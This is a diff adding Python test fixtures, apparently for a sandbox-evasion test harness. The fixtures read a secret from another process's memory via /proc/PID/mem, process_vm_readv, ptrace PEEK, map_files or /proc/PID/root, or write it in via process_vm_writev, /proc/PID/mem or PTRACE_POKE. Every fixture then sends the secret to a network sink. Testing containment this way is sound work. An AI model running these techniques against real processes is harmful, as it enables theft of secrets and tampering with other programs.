@@ -1,0 +1,223 @@
+"""Thefts out of, and into, the memory of another process of the job."""
+
+import ctypes
+import mmap
+import os
+import signal
+import socket
+import struct
+
+from evade import LIBC, child, fixture, main, path, read, send, sink, tmp, wait
+
+BYTES = 4096
+PTRACE_PEEK, PTRACE_POKE, PTRACE_ATTACH, PTRACE_DETACH, PTRACE_SEIZE, PTRACE_INTERRUPT = 2, 5, 16, 17, 0x4206, 0x4207
+LIBC.ptrace.restype = ctypes.c_long
+LIBC.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
+
+
+def checked(result):
+    if result < 0:
+        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
+    return result
+
+
+def place():
+    """Memory that children have at the same address, each its own."""
+    return ctypes.create_string_buffer(BYTES)
+
+
+def taken_from(door):
+    """A keeper has the secret in its memory; another takes it from there by `door`, which is given the keeper and the address."""
+    memory = place()
+    ready, told = os.pipe()
+
+    def keep():
+        data = read()
+        ctypes.memmove(memory, data, len(data))
+        os.write(told, b"!")
+        signal.pause()
+
+    keeper = child(keep)
+    os.read(ready, 1)
+    try:
+        wait(child(lambda: send(door(keeper, ctypes.addressof(memory)).rstrip(b"\0"))))
+    finally:
+        os.kill(keeper, signal.SIGKILL)
+        os.waitpid(keeper, 0)
+
+
+def put_into(door):
+    """Who has the secret puts it into the memory of another by `door`; that one makes no call until it is there, and sends it then."""
+    memory = place()
+    ready, told = os.pipe()
+
+    def take():
+        # A connection from before, so that what comes first is the send.
+        with socket.create_connection(sink()) as stream:
+            os.write(told, b"!")
+            while memory[0] == b"\0":
+                pass
+            stream.sendall(memory.raw.rstrip(b"\0"))
+
+    taker = child(take)
+    os.read(ready, 1)
+    door(taker, ctypes.addressof(memory), read())
+    wait(taker)
+
+
+@fixture("B34", "the memory of another process, by /proc/PID/mem")
+def mem():
+    def door(pid, address):
+        with open(f"/proc/{pid}/mem", "rb", buffering=0) as file:
+            return os.pread(file.fileno(), BYTES, address)
+
+    taken_from(door)
+
+
+@fixture("B34", "the memory of another process, by process_vm_readv")
+def vm_readv():
+    def door(pid, address):
+        into = ctypes.create_string_buffer(BYTES)
+        own = struct.pack("<QQ", ctypes.addressof(into), BYTES)
+        checked(LIBC.process_vm_readv(pid, own, 1, struct.pack("<QQ", address, BYTES), 1, 0))
+        return into.raw
+
+    taken_from(door)
+
+
+def peeked(pid, address):
+    words = []
+    for at in range(address, address + 512, 8):
+        word = ctypes.c_long(LIBC.ptrace(PTRACE_PEEK, pid, at, None)).value
+        words.append(struct.pack("<q", word))
+    return b"".join(words)
+
+
+@fixture("B34", "the memory of another process, by PTRACE_ATTACH and PEEK")
+def ptrace_attach():
+    def door(pid, address):
+        checked(LIBC.ptrace(PTRACE_ATTACH, pid, None, None))
+        os.waitpid(pid, 0x40000000)
+        data = peeked(pid, address)
+        LIBC.ptrace(PTRACE_DETACH, pid, None, None)
+        return data
+
+    taken_from(door)
+
+
+@fixture("B34", "the memory of another process, by PTRACE_SEIZE and PEEK")
+def ptrace_seize():
+    def door(pid, address):
+        checked(LIBC.ptrace(PTRACE_SEIZE, pid, None, None))
+        checked(LIBC.ptrace(PTRACE_INTERRUPT, pid, None, None))
+        os.waitpid(pid, 0x40000000)
+        data = peeked(pid, address)
+        LIBC.ptrace(PTRACE_DETACH, pid, None, None)
+        return data
+
+    taken_from(door)
+
+
+@fixture("B34", "a file in memory that another process has mapped, by /proc/PID/map_files")
+def map_files():
+    ready, told = os.pipe()
+
+    def keep():
+        fd = os.memfd_create("kept")
+        os.write(fd, read())
+        os.ftruncate(fd, BYTES)
+        memory = mmap.mmap(fd, BYTES)
+        os.close(fd)
+        os.write(told, b"!")
+        signal.pause()
+        memory.close()
+
+    keeper = child(keep)
+    os.read(ready, 1)
+
+    def take():
+        [line] = [line for line in open(f"/proc/{keeper}/maps") if "memfd:kept" in line]
+        send(read(f"/proc/{keeper}/map_files/{line.split()[0]}").rstrip(b"\0"))
+
+    try:
+        wait(child(take))
+    finally:
+        os.kill(keeper, signal.SIGKILL)
+        os.waitpid(keeper, 0)
+
+
+@fixture("B34", "the root of another process, by /proc/PID/root")
+def root():
+    ready, told = os.pipe()
+
+    def keep():
+        os.write(told, b"!")
+        signal.pause()
+
+    keeper = child(keep)
+    os.read(ready, 1)
+    try:
+        wait(child(lambda: send(read(f"/proc/{keeper}/root{path()}"))))
+    finally:
+        os.kill(keeper, signal.SIGKILL)
+        os.waitpid(keeper, 0)
+
+
+@fixture("B34", "put into another's memory by process_vm_writev")
+def vm_writev():
+    def door(pid, address, data):
+        own = ctypes.create_string_buffer(data)
+        # The first byte last: it says that all is there.
+        for start, end in ((1, len(data)), (0, 1)):
+            here = struct.pack("<QQ", ctypes.addressof(own) + start, end - start)
+            checked(LIBC.process_vm_writev(pid, here, 1, struct.pack("<QQ", address + start, end - start), 1, 0))
+
+    put_into(door)
+
+
+@fixture("B34", "put into another's memory by /proc/PID/mem")
+def mem_written():
+    def door(pid, address, data):
+        with open(f"/proc/{pid}/mem", "r+b", buffering=0) as file:
+            os.pwrite(file.fileno(), data[1:], address + 1)
+            os.pwrite(file.fileno(), data[:1], address)
+
+    put_into(door)
+
+
+@fixture("B34", "the same, by a descriptor that was opened before the secret was read")
+def mem_written_before():
+    memory = place()
+    ready, told = os.pipe()
+
+    def take():
+        with socket.create_connection(sink()) as stream:
+            os.write(told, b"!")
+            while memory[0] == b"\0":
+                pass
+            stream.sendall(memory.raw.rstrip(b"\0"))
+
+    taker = child(take)
+    os.read(ready, 1)
+    with open(f"/proc/{taker}/mem", "r+b", buffering=0) as file:
+        data = read()
+        os.pwrite(file.fileno(), data[1:], ctypes.addressof(memory) + 1)
+        os.pwrite(file.fileno(), data[:1], ctypes.addressof(memory))
+    wait(taker)
+
+
+@fixture("B34", "put into another's memory by PTRACE_POKE")
+def poke():
+    def door(pid, address, data):
+        checked(LIBC.ptrace(PTRACE_ATTACH, pid, None, None))
+        os.waitpid(pid, 0x40000000)
+        data = data.ljust(-(-len(data) // 8) * 8, b"\0")
+        for at in reversed(range(0, len(data), 8)):
+            [word] = struct.unpack_from("<Q", data, at)
+            checked(LIBC.ptrace(PTRACE_POKE, pid, address + at, word))
+        LIBC.ptrace(PTRACE_DETACH, pid, None, None)
+
+    put_into(door)
+
+
+main()
